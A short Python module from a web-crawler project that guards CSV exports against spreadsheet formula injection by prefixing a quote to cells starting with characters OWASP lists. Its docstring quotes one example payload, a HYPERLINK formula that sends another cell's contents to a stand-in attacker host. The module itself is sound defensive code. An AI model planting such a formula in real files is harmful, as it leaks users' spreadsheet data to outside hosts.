"""The one rule for a CSV cell a spreadsheet opens: shared by the CSV dump and the CSV
export of `tinhuy browse` (crawler/browse_plugins/csv_cells.py)."""

from __future__ import annotations

# The first characters that, OWASP lists, make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(cell: str) -> str:
    """`cell` with a `'` in front when it begins with = + - @, a tab or a carriage return.

    A scraped title such as `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`
    would otherwise run as a formula when the CSV is opened, and could send other cells
    away or start a program (OWASP, "CSV Injection"). The leading `'` is OWASP's remedy:
    spreadsheets then show the cell as text. Other cells are returned as they are."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell
